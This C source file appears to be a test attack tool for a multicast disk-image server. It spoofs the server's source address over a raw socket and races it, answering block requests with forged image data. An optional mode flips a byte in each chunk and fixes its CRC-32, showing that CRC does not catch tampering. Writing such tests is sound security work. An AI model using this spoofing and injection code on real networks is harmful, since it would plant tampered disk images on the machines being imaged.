/*
 * mcforge GROUP PORT SECONDS PPS SPOOF_ADDR FORGED_IMAGE: the attack CRC-32 cannot
 * stop, for tests/cli/mc_forge.sh. Learns the image tag from a JOIN_REPLY, then
 * answers every REQUEST or PREQUEST it hears on the group with all 1024 BLOCKs of
 * that chunk of FORGED_IMAGE (a sound image with the served image's UUID and size:
 * whole chunks with right CRCs), from SPOOF_ADDR (a raw socket), racing the server.
 * A seventh argument "flip": FORGED_IMAGE is the served image itself, and a byte of
 * each chunk's data is flipped and its data CRC made right again (for an encrypted
 * image: CRC-valid chunks of the right key id whose tag fails).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <zlib.h>

#include "core/format.h"
#include "mcast/net.h"
#include "mcast/pace.h"
#include "pktbuild.h"
#include "mcast/proto.h"

int main(int argc, char **argv)
{
	struct ndz_net_opts o = { 0 };
	struct ndz_net *net;
	struct ndz_pkt p;
	struct ndz_pace pace;
	uint8_t buf[2048], *img;
	uint32_t from, tag = 0, group, src = 0, nchunks;
	uint64_t end;
	unsigned long sent = 0, answered = 0;
	long len;
	int raw, have_tag;
	FILE *f;

	if (argc != 7 && !(argc == 8 && !strcmp(argv[7], "flip"))) {
		fprintf(stderr, "usage: mcforge GROUP PORT SECONDS PPS SPOOF_ADDR FORGED_IMAGE "
			"[flip]\n");
		return 2;
	}
	f = fopen(argv[6], "rb");
	if (!f || fseek(f, 0, SEEK_END) < 0 || (len = ftell(f)) <= 0 ||
	    len % NDZ_CHUNK_SIZE || fseek(f, 0, SEEK_SET) < 0) {
		fprintf(stderr, "mcforge: %s: not an image\n", argv[6]);
		return 1;
	}
	img = malloc((size_t)len);
	if (!img || fread(img, 1, (size_t)len, f) != (size_t)len) {
		fprintf(stderr, "mcforge: %s: cannot read\n", argv[6]);
		return 1;
	}
	fclose(f);
	nchunks = (uint32_t)(len / NDZ_CHUNK_SIZE);
	for (uint32_t i = 0; argc == 8 && i < nchunks; i++) {
		uint8_t *c = img + (size_t)i * NDZ_CHUNK_SIZE;
		struct ndz_chunk_hdr h;

		if (ndz_hdr_decode(c, &h, NULL) < 0 || h.data_len < 64) {
			fprintf(stderr, "mcforge: %s: chunk %u: cannot flip\n", argv[6], i);
			return 1;
		}
		c[NDZ_HDR_SIZE + h.data_len / 2] ^= 0x20;
		h.data_crc = (uint32_t)crc32(crc32(0L, Z_NULL, 0), c + NDZ_HDR_SIZE, h.data_len);
		if (ndz_hdr_encode(&h, c, NULL) < 0)
			return 1;
	}
	if (pkt_join("mcforge", &o, argv[1], argv[2], &net, &group) < 0)
		return 1;
	raw = pkt_raw_open(argv[5], &src);
	if (raw < 0) {
		perror("mcforge: raw socket");
		return 1;
	}
	/* learn the image from a JOIN_REPLY (ask for one ourselves) */
	have_tag = pkt_learn(net, 0xf0f0f0f, 5000, &p);
	if (have_tag)
		tag = p.tag;
	ndz_pace_init(&pace, (uint64_t)atoi(argv[4]) * 8000, 0, ndz_now_ns());
	end = ndz_now_ns() + (uint64_t)atoi(argv[3]) * 1000000000ull;
	while (have_tag && ndz_now_ns() < end) {
		int n = ndz_net_recv(net, buf, sizeof(buf), 50, &from, NULL);
		uint32_t chunk;

		if (n <= 0 || ndz_pkt_decode(buf, (size_t)n, &p, NULL) != 0 || p.tag != tag ||
		    (p.type != NDZ_PKT_REQUEST && p.type != NDZ_PKT_PREQUEST) || p.chunk >= nchunks)
			continue;
		chunk = p.chunk;
		answered++;
		for (unsigned b = 0; b < NDZ_BLOCKS_PER_CHUNK && ndz_now_ns() < end; b++) {
			int l;

			memset(&p, 0, sizeof(p));
			p.type = NDZ_PKT_BLOCK;
			p.tag = tag;
			p.chunk = chunk;
			p.block = (uint16_t)b;
			p.data = img + (size_t)chunk * NDZ_CHUNK_SIZE + (size_t)b * NDZ_BLOCK_SIZE;
			l = ndz_pkt_encode(&p, buf, sizeof(buf), NULL);
			if (l > 0)
				pkt_spoof(raw, src, group, o.port, buf, (size_t)l);
			sent++;
			ndz_pace_wait(&pace, 1000);
		}
	}
	printf("mcforge: sent %lu blocks answering %lu requests (tag %08x)\n", sent, answered, tag);
	close(raw);
	ndz_net_free(net);
	free(img);
	return 0;
}
